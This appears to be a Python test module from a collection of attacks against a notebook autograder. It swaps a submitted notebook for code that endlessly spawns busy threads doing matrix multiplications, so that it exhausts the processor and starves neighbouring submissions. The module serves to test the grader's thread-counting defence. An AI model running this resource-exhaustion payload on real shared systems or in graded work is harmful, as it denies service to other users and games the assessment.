"""Starts threads until none can be started, each busy, to take the processor from its neighbours.

Threads are counted while the grader waits, and who has too many is ended.
"""

from attacks.build import instead
from nbformat import NotebookNode

EARNS = 5


def submission(released: NotebookNode) -> NotebookNode:
    return instead(
        released,
        """
        import threading
        threading.stack_size(2**18)
        def busy():
            x = torch.ones(100, 100)
            while True:
                x @ x
        while True:
            try:
                threading.Thread(target=busy, daemon=True).start()
            except (RuntimeError, MemoryError):
                pass
        """,
    )
